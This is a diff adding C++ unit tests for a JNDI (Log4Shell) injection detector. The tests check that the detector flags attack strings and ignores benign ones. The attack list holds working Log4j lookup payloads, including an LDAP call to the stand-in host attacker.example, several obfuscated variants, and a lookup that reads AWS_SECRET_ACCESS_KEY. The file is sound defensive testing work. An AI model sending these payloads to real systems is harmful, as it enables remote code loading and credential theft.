@@ -1,0 +1,91 @@
+#include <string>
+#include <vector>
+
+#include "gtest/gtest.h"
+#include "runtime/detect/detector.h"
+#include "tests/unit/detect/detector_cases.h"
+
+namespace fnguard::detect {
+namespace {
+
+using testing::Case;
+using testing::Detects;
+
+std::string Repeat(const std::string& s, size_t n) {
+  std::string r;
+  r.reserve(s.size() * n);
+  for (size_t i = 0; i < n; ++i) r += s;
+  return r;
+}
+
+TEST(JndiTest, DetectsAttacks) {
+  const std::vector<std::string> attacks = {
+      "${jndi:ldap://attacker.example/a}",
+      "${jndi:rmi://x/y}",
+      "${jndi:dns://x}",
+      "${JNDI:LDAP://x/a}",
+      "${${lower:j}ndi:ldap://x/a}",
+      "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
+      "${${env:NOPE:-j}ndi:ldap://x/}",
+      "${j${k8s:k5:-ND}i:ldap://x/}",
+      "${${upper:j}ndi:iiop://x/}",
+      "${${date:'j'}${date:'n'}di:ldap://x}",
+      "${j${lower:Nd}i${upper::}//x/a}",
+      "${env:AWS_SECRET_ACCESS_KEY}",
+      "${sys:java.version}",
+      "${ctx:loginId}",
+      "${main:0}",
+      "GET ${jndi:nis://x}",
+  };
+  for (const std::string& a : attacks) {
+    Case c;
+    c.value = a;
+    EXPECT_TRUE(Detects(JndiDetector(), c)) << a;
+    c.location = event::Location::kBody;
+    c.path = "body.v";
+    EXPECT_TRUE(Detects(JndiDetector(), c)) << a;
+  }
+}
+
+TEST(JndiTest, IgnoresBenign) {
+  const std::vector<std::string> benign = {
+      "${HOME}",
+      "$100",
+      "{\"a\":\"${x}\"}",
+      "price ${amount}",
+      "${user.name}",
+  };
+  for (const std::string& b : benign) {
+    Case c;
+    c.value = b;
+    Match m;
+    EXPECT_FALSE(Detects(JndiDetector(), c, &m)) << b << " -> " << m.rule_id;
+    c.location = event::Location::kBody;
+    c.path = "body.text";
+    EXPECT_FALSE(Detects(JndiDetector(), c, &m)) << b << " -> " << m.rule_id;
+  }
+}
+
+TEST(JndiTest, CompletesOnPathologicalInput) {
+  testing::RunsOnLargeInput(JndiDetector(), std::string(1 << 20, '$'));
+  testing::RunsOnLargeInput(JndiDetector(), Repeat("${", 1 << 19));
+  testing::RunsOnLargeInput(JndiDetector(), Repeat("${${", 1 << 18) + "jndi:");
+  testing::RunsOnLargeInput(JndiDetector(), Repeat("${a:-", 1 << 17));
+}
+
+TEST(JndiTest, ReportsItsId) {
+  EXPECT_EQ(Get(JndiDetector().id()).id(), JndiDetector().id());
+}
+
+TEST(JndiTest, ObfuscationIsReported) {
+  Case c;
+  c.value = "${${lower:J}${lower:N}${lower:D}${lower:I}:ldap://x/a}";
+  Match m;
+  ASSERT_TRUE(Detects(JndiDetector(), c, &m));
+  EXPECT_EQ(m.rule_id, "jndi.obfuscated_lookup");
+  EXPECT_EQ(m.score, 100);
+}
+
+
+}  // namespace
+}  // namespace fnguard::detect
